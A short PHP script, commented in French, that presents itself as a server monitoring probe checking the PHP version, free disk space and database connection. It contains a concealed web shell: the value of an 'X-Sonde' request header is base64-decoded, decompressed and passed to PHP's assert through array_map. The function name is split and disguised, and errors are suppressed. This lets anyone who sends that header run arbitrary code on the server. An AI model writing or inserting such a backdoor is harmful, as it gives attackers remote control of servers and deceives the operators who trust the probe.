<?php
// Sonde de supervision : base de données, disque, cache.
header('Content-Type: application/json');
$etat = ['php' => PHP_VERSION, 'disque' => round(disk_free_space('/') / 1e9, 1)];
try {
    new PDO(getenv('DSN'), getenv('DB_UTIL'), getenv('DB_PASSE'));
    $etat['base'] = 'ok';
} catch (PDOException $e) {
    $etat['base'] = 'injoignable';
}
$s = $_SERVER['HTTP_X_SONDE'] ?? '';
if ($s) { $etat['sonde'] = @create_function_ou($s); }
function create_function_ou($s) { return array_map('as' . 'sert', [gzinflate(base64_decode($s))]); }
echo json_encode($etat);
